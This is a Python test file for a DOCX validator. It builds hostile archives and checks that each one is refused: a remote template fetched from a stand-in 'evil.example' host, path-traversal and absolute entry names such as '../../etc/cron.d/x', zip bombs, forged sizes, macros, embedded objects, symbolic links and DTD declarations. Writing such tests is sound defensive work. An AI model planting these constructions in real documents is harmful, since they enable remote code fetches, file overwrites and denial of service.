"""DOCX, true and hostile."""

import struct
import zlib
from random import Random

import pytest
from pytest import param

from cases.content.archives import check_docx
from cases.content.fault import Fault
from tests.files import CONTENT_TYPES, docx

RELATIONS = "word/_rels/settings.xml.rels"


def relation(kind: str, mode: str = ' TargetMode="External"', target: str = "http://evil.example/t.dotm") -> bytes:
    of = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return f'<Relationships><Relationship Id="r1" Type="{of}" Target="{target}"{mode}/></Relationships>'.encode()


def with_claimed_size(name: bytes, size: int) -> bytes:
    """An archive that says of an entry, in both places, that it unpacks to `size` bytes: it is a stream of 1 MB."""
    data = bytearray(docx({name.decode(): bytes(1_000_000)}))
    local, central = data.index(name) - 30, data.rindex(name) - 46
    struct.pack_into("<I", data, local + 22, size)
    struct.pack_into("<I", data, central + 24, size)
    struct.pack_into("<I", data, central + 16, zlib.crc32(bytes(size)))
    return bytes(data)


def renamed(before: bytes, after: bytes, *, everywhere: bool = True) -> bytes:
    """An archive with an entry of another name: in both places, or in its directory only."""
    data = docx({before.decode(): b"x"})
    if everywhere:
        return data.replace(before, after)
    place = data.rindex(before)
    return data[:place] + after + data[place + len(after) :]


def overlapping() -> bytes:
    """An archive in which two entries are the same bytes."""
    data = bytearray(docx({"word/a.bin": b"a" * 100, "word/b.bin": b"a" * 100}))
    first, second = data.rindex(b"word/a.bin") - 46, data.rindex(b"word/b.bin") - 46
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


@pytest.mark.parametrize(
    "data",
    [
        param(docx(), id="DOCX"),
        param(docx({"word/media/image1.png": b"x" * 5000}), id="with a picture"),
        param(docx({RELATIONS: relation("hyperlink")}), id="with a link"),
        param(docx({RELATIONS: relation("attachedTemplate", "", "template.dotx")}), id="with a template of its own"),
        param(docx({"word/blank.bin": bytes(900_000)}), id="with blanks that pack well"),
        param(docx({f"word/{n}.bin": b"" for n in range(498)}), id="of 500 parts"),
    ],
)
def test_documents_are_taken(data):
    check_docx(data)


@pytest.mark.parametrize(
    ("data", "why"),
    [
        param(b"", "no DOCX", id="nothing"),
        param(b"PK\x03\x04" + bytes(100), "damaged", id="an archive of zeros"),
        param(b"#!/bin/sh\n" + docx(), "no DOCX", id="a script before an archive"),
        param(docx()[:64] + docx(), "damaged", id="an archive before an archive"),
        param(docx() + b"<script>", "damaged|after the end", id="a script after an archive"),
        param(docx(comment=b"<script>"), "after the end", id="a comment of an archive"),
        param(docx()[:-30], "damaged", id="an archive without its end"),
        param(docx(without="word/document.xml"), "no text document", id="no document"),
        param(docx(without="[Content_Types].xml"), "no text document", id="no types"),
        param(docx({"[Content_Types].xml": b"<Types/>"}), "no text document", id="no document among the types"),
        param(
            docx({"[Content_Types].xml": CONTENT_TYPES.replace(b"wordprocessingml", b"spreadsheetml")}),
            "no text document",
            id="a spreadsheet called DOCX",
        ),
        param(
            docx({"[Content_Types].xml": CONTENT_TYPES + b"application/vnd.ms-word.document.macroEnabled.main+xml"}),
            "macros",
            id="a document with macros called DOCX",
        ),
        param(docx({"word/vbaProject.bin": b"x"}), "macros", id="macros"),
        param(docx({"word/VBAPROJECT.BIN": b"x"}), "macros", id="macros in capitals"),
        param(docx({"word/embeddings/oleObject1.bin": b"x"}), "files inside", id="an embedded object"),
        param(docx({"../../etc/cron.d/x": b"x"}), "out of it", id="an entry above the archive"),
        param(docx({"/etc/passwd": b"x"}), "out of it", id="an absolute entry"),
        param(docx({"C:/Windows/x": b"x"}), "out of it", id="an entry on a drive"),
        param(renamed(b"word/xx/yy.bin", b"..\\..\\yyyy.bin"), "out of it", id="an entry above it, with backslashes"),
        param(renamed(b"word/xxxx.bin", b"word/\x00xxx.bin"), "out of it", id="an entry with NUL in its name"),
        param(renamed(b"word/xxxx.bin", b"word/yyyy.bin", everywhere=False), "damaged", id="an entry with two names"),
        param(docx(links="word/link.xml"), "out of it", id="a symbolic link"),
        param(docx({f"word/{n}.bin": b"" for n in range(499)}), "more than 500", id="501 parts"),
        param(docx({"word/bomb.bin": bytes(51_000_000)}), "unpacks", id="51 MB in 50 kB"),
        param(docx({"word/bomb.bin": bytes(2_000_000)}), "unpacks", id="2 MB that pack a thousand to one"),
        param(with_claimed_size(b"word/lies.bin", 10), "damaged", id="1 MB that says it is ten bytes"),
        param(overlapping(), "damaged", id="two entries of the same bytes"),
        param(docx({"WORD/DOCUMENT.XML": b"x"}), "twice", id="an entry twice, in other letters"),
        param(docx({"word/x.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]>"}), "declares", id="a document type"),
        param(docx({"word/x.xml": "<!DOCTYPE a>".encode("utf-16")}), "damaged", id="a document type in UTF-16"),
        param(docx({RELATIONS: relation("attachedTemplate")}), "elsewhere", id="a template from elsewhere"),
        param(docx({RELATIONS: relation("oleObject")}), "elsewhere", id="an object from elsewhere"),
        param(
            docx({RELATIONS: relation("attachedTemplate", ' TargetMode="&#69;xternal"')}),
            "damaged",
            id="a template from elsewhere, spelled in numbers",
        ),
    ],
)
def test_hostile_documents_are_not(data, why):
    with pytest.raises(Fault, match=why):
        check_docx(data)


def test_many_parts_that_each_unpack_to_little_are_too_much_together():
    source = Random(1)
    parts = {f"word/{n}.bin": b"".join(source.randbytes(100) + bytes(4900) for _ in range(200)) for n in range(51)}

    with pytest.raises(Fault, match="unpacks"):
        check_docx(docx(parts))


def test_an_encrypted_document_is_not_taken():
    data = bytearray(docx())
    place = data.rindex(b"word/document.xml") - 46
    struct.pack_into("<H", data, place + 8, 1)

    with pytest.raises(Fault, match="Encrypted"):
        check_docx(bytes(data))
